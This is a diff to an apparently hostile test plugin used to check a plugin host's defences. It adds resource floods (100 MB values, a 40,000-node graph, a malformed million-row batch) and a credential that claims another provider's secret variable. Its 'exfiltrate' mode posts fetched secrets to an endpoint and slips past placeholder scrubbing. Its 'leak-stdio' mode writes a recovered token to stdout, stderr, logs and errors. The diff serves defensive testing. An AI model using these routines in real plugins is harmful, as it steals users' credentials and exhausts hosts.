@@ -14,6 +14,9 @@ const BODY_KEPT: usize = 4 * 1024;
 
 const THING: &str = "MisbehaveThing";
 
+/// The size of the texts and values the `huge-*` modes hand over: 100 MB.
+const HUGE: usize = 100_000_000;
+
 struct Misbehave;
 
 impl Ingestor for Misbehave {
@@ -30,10 +33,16 @@ impl Ingestor for Misbehave {
         .config(ConfigKey::text("mode", "What to do wrong").required())
         .config(ConfigKey::text("target", "URL the fetch modes request"))
         .config(ConfigKey::endpoint("endpoint", "An operator-set endpoint"))
+        .config(ConfigKey::text(
+            "size",
+            "Bytes of the value huge-property emits",
+        ))
         .credential(
+            // Another provider's variable, claimed as its own: what a hostile plugin
+            // dropped in beside the built-ins would ask for (issue 20, point 1).
             Credential::new(
                 "token",
-                "MISBEHAVE_TOKEN",
+                "SCW_SECRET_KEY",
                 "Sent as X-Token",
                 CredentialUse::Header,
             )
@@ -72,6 +81,18 @@ impl Ingestor for Misbehave {
                 raw::malformed_batch();
                 Ok(Summary::new("ok"))
             }
+            "malformed-flood" => {
+                raw::malformed_flood();
+                Ok(Summary::new("ok"))
+            }
+            "huge-property" => {
+                let size = config
+                    .require_text("size")?
+                    .parse()
+                    .map_err(|_| SyncError::config("size must be a number of bytes"))?;
+                cx.node(THING, "big").prop("name", "p".repeat(size)).emit();
+                Ok(Summary::new("ok"))
+            }
             "stdout" => {
                 println!("hello from the guest's stdout");
                 eprintln!("and from its stderr");
@@ -85,6 +106,9 @@ impl Ingestor for Misbehave {
                 ok(cx)
             }
             "sync-error" => Err(SyncError::provider("provider said no")),
+            // 100 MB of text where a sentence is expected.
+            "huge-error" => Err(SyncError::provider("e".repeat(HUGE))),
+            "huge-summary" => Ok(Summary::new("s".repeat(HUGE))),
             "partial" => {
                 cx.node(THING, "t1")
                     .prop("name", "thing 1")
@@ -94,6 +118,9 @@ impl Ingestor for Misbehave {
                 Ok(Summary::new("ok"))
             }
             "emit-then-hang" => emit_then_hang(cx, config),
+            "big" => big(cx, config.text("target").unwrap_or("big")),
+            "exfiltrate" => exfiltrate(cx, config),
+            "leak-stdio" => leak_stdio(cx, config),
             other => Err(SyncError::config(format!("unknown mode {other:?}"))),
         }
     }
@@ -156,6 +183,29 @@ fn emit_then_hang(cx: &mut Context, config: &Config) -> Result<Summary, SyncErro
     Ok(Summary::new("ok"))
 }
 
+/// A graph large enough that writing it takes a while: 40,000 things in a chain, each
+/// with properties, their ids prefixed with `prefix` (config `target`), so that a run
+/// with another prefix replaces the whole graph.
+fn big(cx: &mut Context, prefix: &str) -> Result<Summary, SyncError> {
+    const N: u32 = 40_000;
+    for i in 0..N {
+        cx.node(THING, format!("{prefix}-{i}"))
+            .prop("name", format!("thing number {i} of a big graph"))
+            .prop("count", i)
+            .emit();
+    }
+    for i in 1..N {
+        let (from, to) = (format!("{prefix}-{}", i - 1), format!("{prefix}-{i}"));
+        cx.edge(
+            "RELATES_TO",
+            (THING, "id", from.as_str()),
+            (THING, "id", to.as_str()),
+        )
+        .emit();
+    }
+    Ok(Summary::new("ok"))
+}
+
 fn emit_one(cx: &mut Context, label: &str, id: &str, prop: &str) -> Result<Summary, SyncError> {
     cx.node(label, id).prop(prop, "x").emit();
     Ok(Summary::new("ok"))
@@ -173,6 +223,47 @@ fn fetch(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
         .prop("count", u32::from(response.status))
         .emit();
     Ok(Summary::new("ok"))
+}
+
+/// Fetches `target` (a provider reflecting the credential), writes everything it got
+/// back, header names included, into a node and posts it to `endpoint`/echo/body: what a
+/// plugin would do with a credential it managed to see.
+fn exfiltrate(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
+    let target = config.require_text("target")?;
+    let endpoint = config.require_text("endpoint")?;
+    let response = cx
+        .fetch(Request::get(target).header("X-Token", "{secret:token}"))
+        .map_err(|e| SyncError::fetch(e.to_string()))?;
+    let mut dump = String::new();
+    for (name, value) in &response.headers {
+        dump.push_str(&format!("{name}: {value}\n"));
+    }
+    dump.push_str(&response.text());
+    // A placeholder in a body the credential may not go in is refused; the copy sent
+    // out spells them `(secret:NAME}`.
+    let out = dump.replace("{secret:", "(secret:");
+    cx.fetch(Request::post(format!("{endpoint}/echo/body")).body(out))
+        .map_err(|e| SyncError::fetch(e.to_string()))?;
+    cx.node(THING, "exfiltrated").prop("name", dump).emit();
+    Ok(Summary::new("ok"))
+}
+
+/// Fetches `target`, a provider that gives the credential back reversed (a form the host
+/// does not scrub), recovers it and writes it everywhere a plugin's text goes: stdout,
+/// stderr (upper-cased), the log, and its error.
+fn leak_stdio(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
+    let target = config.require_text("target")?;
+    let response = cx
+        .fetch(Request::get(target).header("X-Token", "{secret:token}"))
+        .map_err(|e| SyncError::fetch(e.to_string()))?;
+    let secret: String = response.text().trim().chars().rev().collect();
+    let upper = secret.to_ascii_uppercase();
+    println!("stdout: the token is {secret}");
+    eprintln!("stderr: THE TOKEN IS {upper}");
+    // A line longer than the host keeps, with the secret across the cut.
+    println!("{}{secret}", "x".repeat(4090));
+    cx.info(format!("log: {secret}"));
+    Err(SyncError::provider(format!("error: {upper}")))
 }
 
 fn fetch_many(cx: &mut Context, config: &Config) -> Result<Summary, SyncError> {
@@ -232,6 +323,19 @@ mod raw {
     });
 
     use infragraph::plugin::emit;
+
+    /// A batch that claims a million rows (its `ids` offsets) over two bytes of data:
+    /// past any small record quota, and malformed besides.
+    pub(crate) fn malformed_flood() {
+        emit::emit_nodes(&emit::NodeBatch {
+            label: super::THING.into(),
+            ids: emit::Texts {
+                data: "ab".into(),
+                ends: vec![9; 1_000_000],
+            },
+            columns: vec![],
+        });
+    }
 
     /// A batch whose `ids` offsets run past their data.
     pub(crate) fn malformed_batch() {
